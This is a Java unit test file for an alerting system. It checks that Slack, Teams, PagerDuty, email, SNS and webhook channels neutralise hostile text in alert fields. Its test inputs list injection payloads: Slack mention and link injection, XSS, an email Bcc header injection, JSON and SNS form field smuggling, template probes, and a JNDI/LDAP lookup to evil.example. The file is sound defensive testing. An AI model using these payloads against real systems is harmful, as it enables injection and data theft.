package dev.coldspan.alerts.channel;

import static org.assertj.core.api.Assertions.assertThat;

import dev.coldspan.alerts.channel.alertmanager.AlertmanagerChannel;
import dev.coldspan.alerts.channel.email.EmailChannel;
import dev.coldspan.alerts.channel.pagerduty.PagerDutyChannel;
import dev.coldspan.alerts.channel.slack.SlackChannel;
import dev.coldspan.alerts.channel.sns.SnsChannel;
import dev.coldspan.alerts.channel.teams.TeamsChannel;
import dev.coldspan.alerts.channel.webhook.WebhookChannel;
import dev.coldspan.alerts.facts.Facts;
import dev.coldspan.alerts.rules.Receiver;
import dev.coldspan.alerts.state.Alert;
import dev.coldspan.alerts.testing.Stories;
import dev.coldspan.alerts.testing.TestAlerts;
import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** A stranger chooses a function's name, and what an invocation says of itself; no channel may take either for markup, a link or a header. */
class HostileStoryTest {
    private static final String URL = "https://hooks.example.com/x";
    private static final List<Channel> CHANNELS = List.of(
            new WebhookChannel(),
            new SlackChannel(),
            new TeamsChannel(),
            new PagerDutyChannel(),
            new AlertmanagerChannel(),
            new EmailChannel(),
            new SnsChannel());
    private static final Map<String, String> SETTINGS = Map.of(
            "server", "mail.example.com:25",
            "from", "coldspan@example.com",
            "to", "ops@example.com",
            "routingKey", "k".repeat(32),
            "topicArn", "arn:aws:sns:eu-central-1:123456789012:ops",
            "accessKeyId", "AKID",
            "secretAccessKey", "secret",
            "sessionToken", "");

    private static final List<String> TEXTS = List.of(
            "<!channel> <!here> <@U123> <http://evil.example|click>",
            "<script>alert(1)</script><img src=x onerror=alert(1)>",
            "*bold* _it_ [click](http://evil.example) ![x](http://evil.example/x.png)",
            "x\r\nBcc: victim@example.com\r\n\r\n<html>",
            "\",\"event_action\":\"resolve\",\"x\":\"",
            "{{secrets}} ${jndi:ldap://evil.example/a} #{7*7} <%= 7*7 %>",
            "x&Message=other&TopicArn=arn:aws:sns:eu-central-1:1:evil",
            "x\u0000\u0007\u001b[31m\u202egnp.exe\u2028severity: fine",
            "javascript:alert(1)",
            "💩".repeat(3_000));

    static Stream<Arguments> cases() {
        return CHANNELS.stream().flatMap(channel -> TEXTS.stream().map(text -> Arguments.of(channel, text)));
    }

    private static Story story(String text) {
        Alert alert = TestAlerts.firing("a", "CheckoutErrors", Map.of("function", text), text);
        Facts facts =
                new Facts(text, List.of(new Facts.Sample(text, "/traces/0123456789abcdef0123456789abcdef")), text);
        return Stories.of(alert, facts);
    }

    private static Receiver receiver(Channel channel) {
        return Stories.receiver(channel.name(), URL, SETTINGS);
    }

    @ParameterizedTest
    @MethodSource("cases")
    void goesWhereTheReceiverIsAndNowhereElse(Channel channel, String text) {
        Message message = channel.message(story(text), receiver(channel));
        if (message instanceof Message.Http http) {
            assertThat(http.url().toString()).startsWith(URL);
            assertThat(http.headers().toString() + http.contentType()).doesNotContain("\r", "\n", "evil", "victim");
        } else {
            Message.Mail mail = (Message.Mail) message;
            assertThat(mail.to()).containsExactly("ops@example.com");
            assertThat(mail.from()).isEqualTo("coldspan@example.com");
            assertThat(mail.subject()).doesNotContain("\r", "\n", "\u0000").hasSizeLessThanOrEqualTo(200);
        }
    }

    @ParameterizedTest
    @MethodSource("cases")
    void saysWhatItSaysInItsOwnForm(Channel channel, String text) {
        Message message = channel.message(story(text), receiver(channel));
        switch (channel.name()) {
            case "email" -> saysItInHtml((Message.Mail) message);
            case "sns" -> saysItInAForm((Message.Http) message);
            default -> saysItInJson(channel.name(), new JsonMapper().readTree(((Message.Http) message).body()));
        }
    }

    /** Tags of ours only, and links to our pages only. */
    private static void saysItInHtml(Message.Mail mail) {
        String tags = mail.html().replaceAll("[^<]*(</?)([a-z0-9!]+)[^>]*>", "$2 ");
        assertThat(tags.split("\\s+"))
                .isSubsetOf("!doctype", "html", "body", "h3", "p", "table", "tr", "td", "ul", "li", "a");
        assertThat(mail.html().split("href="))
                .allSatisfy(link -> assertThat(link).matches("(?s)(\"http://coldspan\\.example/.*|<!doctype.*)"));
    }

    private static void saysItInAForm(Message.Http message) {
        Map<String, String> form = Arrays.stream(message.body().split("&"))
                .map(pair -> pair.split("=", 2))
                .collect(Collectors.toMap(pair -> pair[0], pair -> URLDecoder.decode(pair[1], StandardCharsets.UTF_8)));
        assertThat(form).containsOnlyKeys("Action", "Version", "TopicArn", "Subject", "Message");
        assertThat(form.get("TopicArn")).isEqualTo(SETTINGS.get("topicArn"));
        assertThat(form.get("Subject")).matches("[\\x20-\\x7e]{1,100}");
    }

    private static void saysItInJson(String channel, JsonNode json) {
        switch (channel) {
            case "slack" ->
                assertThat(json.toString()).doesNotContain("<!", "<@", "<http").doesNotContain("\"mrkdwn_in\":[\"");
            case "teams" -> {
                assertThat(json.findValuesAsString("type"))
                        .isSubsetOf("message", "AdaptiveCard", "RichTextBlock", "TextRun", "Action.OpenUrl");
                assertThat(json.findValuesAsString("url"))
                        .allSatisfy(url -> assertThat(url).startsWith("http://coldspan.example/"));
            }
            case "pagerduty" -> {
                assertThat(json.path("event_action").asString()).isEqualTo("trigger");
                assertThat(json.at("/payload/summary").asString()).hasSizeLessThanOrEqualTo(1_024);
                assertThat(json.findValuesAsString("href"))
                        .allSatisfy(url -> assertThat(url).startsWith("http://coldspan.example/"));
            }
            default -> {
                JsonNode alert = json.isArray() ? json.get(0) : json.at("/alerts/0");
                assertThat(alert.at("/labels/alertname").asString()).isEqualTo("CheckoutErrors");
                assertThat(alert.path("generatorURL").asString()).startsWith("http://coldspan.example/");
            }
        }
    }

    @Test
    void keepsANameOnOneLineOfPlainText() {
        Story story = story("x\nseverity: fine\u2028until: now");
        Message.Mail mail = (Message.Mail) new EmailChannel().message(story, receiver(new EmailChannel()));
        assertThat(mail.text().lines()).contains("function: x severity: fine until: now", "severity: page");
        assertThat(mail.text().lines().filter(line -> line.startsWith("severity:")))
                .contains("severity: page");
    }

    @Test
    void turnsNoTextAround() {
        assertThat(story("a\u202eb\u2066c").first().facts().get("function")).isEqualTo("a b c");
    }
}
